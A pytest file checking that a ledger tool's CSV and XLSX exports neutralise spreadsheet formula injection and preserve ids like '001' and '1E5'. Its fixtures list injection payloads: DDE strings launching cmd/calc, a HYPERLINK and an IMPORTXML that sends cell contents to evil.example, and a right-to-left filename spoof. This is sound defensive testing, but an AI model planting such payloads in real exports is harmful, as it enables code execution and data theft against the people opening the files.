"""Cells that somebody would like to see run, and ids that spreadsheets like to spoil."""

import csv
import io
import random

import openpyxl
import pytest

from reconcile.model import Ledger
from tests.decide.sheets import export, taken
from tests.report.ledgers import MANIFEST, Builder

pytest.importorskip("xlsxwriter")

NASTY = ("=", "+", "-", "@", "\t=", "\r=", "＝", "|", "%", "::error::", "##[error]", "'", '"', ",", ";", "\n")
BODIES = (
    "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")", "SUM(1+1)*cmd|' /C calc'!A0", "1+1",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "2+5+cmd",
    "\u202egnp.exe", "\x1b[2J", "🦊" * 5, "e\u0301" * 9, "001", "1E5", "-5", "12345678901234567890",
)  # fmt: skip


def ten_thousand():
    """A ledger in which ten thousand cells hold what somebody would like to see run."""
    chance = random.Random(11)
    make = Builder()
    source = make.source(
        "s", " ".join(f"n{number} 300" for number in range(2500)), "2025-01-01", "@publisher"
    )
    word = lambda: "".join(chance.choice(NASTY) for _ in range(chance.randint(1, 2))) + chance.choice(BODIES)  # noqa: E731
    for number in range(2500):
        make.claim(
            source, f"n{number} 300", 300, 300, claimant=word(), place=word(), subject=word(), via=(word(), "B")
        )  # fmt: skip
    return Ledger(MANIFEST, tuple(make.sources), tuple(make.claims))


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_ten_thousand_hostile_cells(form, tmp_path):
    """None is a formula, none runs, and all of them come back as what they were."""
    ledger = ten_thousand()
    path = tmp_path / f"x.{form}"
    path.write_bytes(export(form, ledger))
    if form == "csv":
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            assert not [
                cell
                for cell in row
                if (cell.lstrip()[:1] in "=@＝＠|%" and cell.lstrip()) or "\t" in cell or "\r" in cell
            ]
    else:
        book = openpyxl.load_workbook(path)
        assert not [cell for sheet in book for row in sheet for cell in row if cell.data_type == "f"]
        book.save(path)
    merged = taken(path, ledger)
    assert (merged.planned, merged.problems, merged.unchanged) == ((), (), merged.rows)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_ids_and_numbers_come_back_equal(form, tmp_path):
    names = ["001", "1E5", "12345678901234567890", "-5", "+5", "0x1F", "1/2", "00", "1.10", "TRUE", "3-4"]
    make = Builder()
    source = make.source("s", " ".join(f"n{number} 7" for number in range(len(names))), None, "1E5")
    for number, name in enumerate(names):
        make.claim(source, f"n{number} 7", 12345678901234567890, None, claimant=name, place=name)
    ledger = Ledger(MANIFEST, tuple(make.sources), tuple(make.claims))
    data = export(form, ledger)
    if form == "csv":
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        assert [row["claimant"] for row in rows] == names
        assert {row["low"] for row in rows} == {"12345678901234567890"}
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data))["claims"]
        at = {cell.value: cell.column for cell in sheet[1]}
        assert [sheet.cell(row, at["claimant"]).value for row in range(2, len(names) + 2)] == names
        assert sheet.cell(2, at["low"]).value == "12345678901234567890"
